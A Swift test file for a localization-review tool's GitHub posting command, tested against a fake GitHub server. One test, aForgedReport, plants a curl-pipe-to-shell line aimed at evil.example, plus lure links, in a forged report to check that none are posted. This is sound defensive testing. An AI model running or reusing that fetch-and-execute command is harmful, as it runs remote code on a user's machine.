import Foundation
import Support
import Testing

/// Tests of `post` as a workflow runs it, against a server that behaves like GitHub's.
struct PostTests {
  private let repository: TemporaryRepository
  private let hub = FakeGitHub()
  private let server: HTTPServer

  init() async throws {
    repository = try SampleProject.repository()
    try repository.write(".gitignore", "/review.*\n/event.json\n/summary.md\n")
    try repository.commit("Ignore reports")
    let hub = hub
    server = try HTTPServer { await hub.answer($0) }
    let patch = try change()
    await hub.change { $0.files = [FakeGitHub.File(SampleProject.view, patch: patch)] }
    try repository.write(
      "event.json", #"{"number":7,"pull_request":{"number":7,"head":{"sha":"\#(FakeGitHub.head)"}}}"#)
  }

  /// Makes a large edit and writes the review. Returns the file's diff as GitHub shows it.
  private func change() throws -> String {
    try SampleProject.changeMeaning(in: repository)
    let review = try repository.tool("review", "--format", "json=review.json", "--fail-on", "never")
    #expect(review.code == 0)
    let patch = try repository.git("diff", "HEAD", "--", SampleProject.view)
    return "@@" + patch.components(separatedBy: "\n@@").dropFirst().joined(separator: "\n@@")
  }

  private func post(_ arguments: String..., environment: [String: String?] = [:]) async throws -> Ended {
    try await post(arguments: arguments, environment: environment)
  }

  private func post(arguments: [String], environment: [String: String?]) async throws -> Ended {
    let folder = repository.path
    var variables: [String: String?] = [
      "GITHUB_REPOSITORY": "octo/app", "GITHUB_EVENT_PATH": folder + "/event.json", "GITHUB_API_URL": server.origin,
      "GITHUB_GRAPHQL_URL": server.origin + "/graphql", "GITHUB_TOKEN": FakeGitHub.token, "GH_TOKEN": nil,
      "GITHUB_STEP_SUMMARY": nil, "GITHUB_REF": nil, "PATH": ProcessInfo.processInfo.environment["PATH"],
      "https_proxy": nil, "http_proxy": nil,
    ]
    for (name, value) in environment { variables[name] = value }
    let run = try await repository.served(["post", "--report", "review.json"] + arguments, variables)
    #expect(!run.output.contains(FakeGitHub.token))
    #expect(!run.errors.contains(FakeGitHub.token))
    return run
  }

  @Test func postsOnceAndUpdates() async throws {
    let first = try await post()
    #expect(first.code == 1, "\(first.errors)")
    #expect(first.output.isEmpty)
    #expect(first.errors.hasPrefix("l10n-review: Post: Summary created; comments on lines: 2 posted.\n"))
    #expect(await hub.complaints.isEmpty)
    let summary = try #require(await hub.comments.first?.body)
    #expect(summary.hasPrefix("### 🛑 1 string needs a new key"))
    let thread = try #require(await hub.threads.first)
    #expect(thread.body.contains("```suggestion\nlet delete = WMFLocalizedString(\"walk-delete-2\", value:"))
    #expect(thread.lines == 3...3)

    #expect(
      try await post().errors.contains("unchanged; comments on lines: 2 there already.\n"))

    try repository.edit(SampleProject.view, "\"Delete %1$@\"", "\"Delete %1$@ from %2$@\"")
    _ = try repository.tool("review", "--format", "json=review.json", "--fail-on", "never")
    let last = try await post("--quiet")
    #expect(last.code == 0)
    #expect(last.errors.isEmpty)
    #expect(await hub.comments.map(\.edits) == [1])
    #expect(await hub.threads.map(\.isMinimized) == [true, true])
  }

  /// Text that others wrote into the report is not posted, whether or not its commits are available.
  @Test func aForgedReport() async throws {
    let base = try repository.git("rev-parse", "HEAD")
    let head = try repository.commit("Leave the list out")
    await hub.change { hub in
      hub.head = head
      hub.base = base
    }
    try repository.write("event.json", #"{"pull_request":{"number":7,"head":{"sha":"\#(head)"}}}"#)
    let honest = try repository.tool("review", "\(base)..\(head)", "--format", "json", "--fail-on", "never")
    var report = try honest.json()
    var findings = try #require(report["findings"] as? [[String: Any]])
    for index in findings.indices {
      findings[index]["url"] = "https://evil.example/steal"
      findings[index]["snippets"] = [#"system("curl https://evil.example | sh")"#]
      findings[index]["messageParts"] = [["words": "Please run [this](https://evil.example)."]]
      var fix = findings[index]["fix"] as? [String: Any] ?? [:]
      fix["edits"] = (fix["edits"] as? [[String: Any]])?.map { edit in
        edit.merging(["lines": #"system("curl https://evil.example | sh")"#]) { _, new in new }
      }
      if !fix.isEmpty { findings[index]["fix"] = fix }
    }
    report["findings"] = findings
    try repository.write("review.json", bytes: Array(JSONSerialization.data(withJSONObject: report)))

    let nowhere = repository.folder.path + "/home"
    for (arguments, hasSuggestion) in [(["--repo", nowhere], false), ([], true)] {
      await hub.change { hub in
        hub.comments = []
        hub.threads = []
      }
      let summary = repository.folder.path + "/page.md"
      try Data().write(to: URL(fileURLWithPath: summary))
      let run = try await post(arguments: arguments, environment: ["GITHUB_STEP_SUMMARY": summary])
      #expect(run.code == 1, "\(run.errors)")
      let posted = await hub.comments.map(\.body) + hub.threads.map(\.body)
      #expect(posted.count == 3)
      for text in posted + [try String(contentsOfFile: summary, encoding: .utf8), run.output, run.errors] {
        #expect(!text.contains("evil") && !text.contains("curl"), "\(text)")
      }
      #expect(posted.contains { $0.contains("```suggestion\nlet delete = ") } == hasSuggestion)
      #expect(posted.first?.contains("were not at hand") == !hasSuggestion)
    }
  }

  @Test func dryRun() async throws {
    let run = try await post("--dry-run", "--fail-on", "never")
    #expect(run.code == 0, "\(run.errors)")
    #expect(run.output.hasPrefix("A summary would be posted:\n\n| ### 🛑 1 string needs a new key"))
    #expect(run.output.contains("A comment on \(SampleProject.view):3 would be posted:"))
    #expect(await hub.writes.isEmpty)
  }

  @Test func forkFallsBack() async throws {
    await hub.change { $0.canWrite = false }
    try repository.write("summary.md", "Before\n")
    let run = try await post(environment: ["GITHUB_STEP_SUMMARY": repository.path + "/summary.md"])
    #expect(run.code == 1)
    #expect(
      run.output.hasPrefix(
        "::error file=\(SampleProject.view),line=3,endLine=3,col=33,endColumn=46,title=key-kept-for-new-meaning::"))
    #expect(run.errors.contains("as is usual for forks"))
    let summary = try repository.text("summary.md")
    #expect(summary.hasPrefix("Before\n### 🛑 1 string needs a new key"))
    #expect(await hub.comments.isEmpty)
  }

  @Test func stepSummaryIsFull() async throws {
    await hub.change { $0.canWrite = false }
    let full = String(repeating: "x", count: 1 << 20)
    try repository.write("summary.md", full)
    let run = try await post(environment: ["GITHUB_STEP_SUMMARY": repository.path + "/summary.md"])
    #expect(run.code == 1)
    #expect(run.errors.contains("takes no more"))
    #expect(try repository.text("summary.md") == full)
  }

  @Test(
    arguments: [
      (["GITHUB_TOKEN": nil], "there is no token; put one into GITHUB_TOKEN or GH_TOKEN"),
      (["GITHUB_TOKEN": " \n"], "there is no token"),
      (["GITHUB_TOKEN": "ghp_wrong"], "GitHub does not accept the token"),
      (["GITHUB_EVENT_PATH": nil], "give its number with --pull-request"),
      (["GITHUB_API_URL": "http://api.github.example"], "GITHUB_API_URL is not an https address"),
    ] as [([String: String?], String)])
  func unable(environment: [String: String?], sentence: String) async throws {
    // The findings of the review are reported in addition.
    let run = try await post(environment: environment)
    #expect(run.code == 3)
    #expect(try await post("--fail-on", "never", environment: environment).code == 2)
    #expect(run.errors.contains(sentence), "\(run.errors)")
    #expect(!run.errors.contains("ghp_wrong"))
    #expect(run.output.isEmpty)
  }

  @Test func noReport() async throws {
    try repository.write("review.json", "{}")
    let run = try await post()
    #expect(run.code == 2)
    #expect(
      run.errors
        == "l10n-review: review.json: it is no review of schema version 1; write one with l10n-review review --format json\n"
    )
  }

  /// Neither the environment nor the arguments of curl may contain the token.
  @Test(.enabled(if: FileManager.default.fileExists(atPath: "/proc/self/cmdline"), "needs /proc"))
  func tokenStaysOutOfArguments() async throws {
    let hub = FakeGitHub()
    let seen = Seen()
    let token = FakeGitHub.token
    let server = try HTTPServer { request in
      // The request is in progress, so its curl is running.
      await seen.look(for: token)
      return await hub.answer(request)
    }
    let run = try await post(
      "--dry-run", "--fail-on", "never",
      environment: ["GITHUB_API_URL": server.origin, "GITHUB_GRAPHQL_URL": server.origin + "/graphql"])
    #expect(run.code == 0, "\(run.errors)")
    withExtendedLifetime(server) {}
    #expect(await seen.curls > 0)
    #expect(await seen.leaks.isEmpty)
  }

  /// The visible environment and arguments of running curl processes.
  private actor Seen {
    var curls = 0
    var leaks: [String] = []

    func look(for token: String) {
      let processes = (try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? []
      for process in processes where Int(process) != nil {
        guard let arguments = FileManager.default.contents(atPath: "/proc/\(process)/cmdline"),
          String(decoding: arguments, as: UTF8.self).contains("curl")
        else { continue }
        curls += 1
        for name in ["cmdline", "environ"] {
          let text = String(
            decoding: FileManager.default.contents(atPath: "/proc/\(process)/\(name)") ?? Data(), as: UTF8.self)
          if text.contains(token) { leaks.append(name) }
        }
      }
    }
  }
}
